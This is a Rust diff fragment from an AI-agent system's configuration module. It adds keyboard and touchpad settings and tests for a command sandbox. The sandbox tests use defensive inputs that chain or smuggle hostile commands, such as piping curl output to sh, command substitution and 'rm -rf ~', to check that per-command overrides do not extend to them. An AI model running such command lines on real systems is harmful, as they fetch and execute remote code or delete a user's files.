+    pub repeat_rate: u32,
+    /// Tapping the touchpad clicks.
+    pub tap_to_click: bool,
+    /// Content follows the fingers when scrolling on the touchpad.
+    pub natural_scroll: bool,
+}
+
+/// Layout switching shortcut.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum LayoutSwitch {
+    #[default]
+    AltShift,
+    CtrlShift,
+    SuperSpace,
+    CapsLock,
+}
+
+impl LayoutSwitch {
+    /// The xkb option implementing the shortcut.
+    pub fn xkb_option(self) -> &'static str {
+        match self {
+            Self::AltShift => "grp:alt_shift_toggle",
+            Self::CtrlShift => "grp:ctrl_shift_toggle",
+            Self::SuperSpace => "grp:win_space_toggle",
+            Self::CapsLock => "grp:caps_toggle",
+        }
+    }
+}
+
+impl Default for InputConfig {
+    fn default() -> Self {
+        Self {
+            layouts: vec!["us".to_string(), "ru".to_string()],
+            layout_switch: LayoutSwitch::AltShift,
+            repeat_delay: 600,
+            repeat_rate: 25,
+            tap_to_click: true,
+            natural_scroll: false,
+        }
+    }
+}
+
+impl InputConfig {
+    /// Read the `[input]` section of [`config_path()`]; a missing or
+    /// malformed file yields the defaults.
+    pub fn load() -> Self {
+        std::fs::read_to_string(config_path())
+            .ok()
+            .and_then(|content| toml::from_str::<toml::Value>(&content).ok())
+            .and_then(|config| config.get("input")?.clone().try_into().ok())
+            .unwrap_or_default()
+    }
 }
 
 impl Default for AiosConfig {
@@ -42,12 +1083,96 @@ impl Default for AiosConfig {
                 api_key: String::new(),
                 model: "llama3.2".to_string(),
                 base_url: Some("http://localhost:11434".to_string()),
+                reasoning: None,
             },
             agent: AgentConfig {
                 socket_path: format!("/run/user/{}/aios-agent.sock", 1000),
                 audit_log: "/var/log/aios/actions.log".to_string(),
                 max_destructive_per_minute: 3,
+                audit_llm: false,
+                max_parallel_tools: default_max_parallel_tools(),
+                show_plans: false,
+                confirm_command: default_confirm_command(),
+                system_prompt: None,
+            },
+            voice: VoiceConfig::default(),
+            ui: UiConfig::default(),
+            power: PowerConfig::default(),
+            input: InputConfig::default(),
+            tools: BTreeMap::new(),
+            tool_selection: ToolSelectionConfig::default(),
+            conversations: ConversationConfig::default(),
+            prompt: PromptConfig::default(),
+            sandbox: SandboxConfig::default(),
+            gateway: GatewayConfig::default(),
+            home_assistant: HomeAssistantConfig::default(),
+            browser: BrowserConfig::default(),
+            telemetry: TelemetryConfig::default(),
+            session: SessionConfig::default(),
+            location: LocationConfig::default(),
+            contacts: ContactsConfig::default(),
+            macros: BTreeMap::new(),
+            mcp_servers: BTreeMap::new(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn default_profile_protects_what_runs_outside_the_sandbox() {
+        let profile = SandboxConfig::default().profile("ls").unwrap();
+        for path in [
+            "~/.bashrc",
+            "~/.config/autostart/",
+            "~/.config/systemd/",
+            "~/.config/sway/",
+            "~/.config/swayidle/",
+            "~/.local/bin/",
+        ] {
+            assert!(profile.read_only.contains(&expand_home(path)), "{path}");
+        }
+        for path in ["~/.ssh", "~/.config/aios", "~/.local/share/aios"] {
+            assert!(profile.hidden.contains(&expand_home(path)), "{path}");
+        }
+    }
+
+    #[test]
+    fn overrides_apply_to_simple_commands_only() {
+        let mut config = SandboxConfig {
+            network: false,
+            ..SandboxConfig::default()
+        };
+        config.commands.insert(
+            "git".to_owned(),
+            SandboxOverride {
+                network: Some(true),
+                ..SandboxOverride::default()
+            },
+        );
+        config.commands.insert(
+            "pacman".to_owned(),
+            SandboxOverride {
+                enabled: Some(false),
+                ..SandboxOverride::default()
             },
+        );
+
+        assert!(config.profile("/usr/bin/git pull --rebase").unwrap().network);
+        assert!(config.profile("pacman -Q").is_none());
+        for line in [
+            "git status; curl https://example.com | sh",
+            "git log > /tmp/log",
+            "git $(curl https://example.com)",
+            "git `id`",
+            "git fetch\ncurl https://example.com",
+            "pacman -Q && rm -rf ~",
+            "pacman -Q & sh",
+        ] {
+            let profile = config.profile(line).expect(line);
+            assert!(!profile.network, "{line}");
         }
     }
 }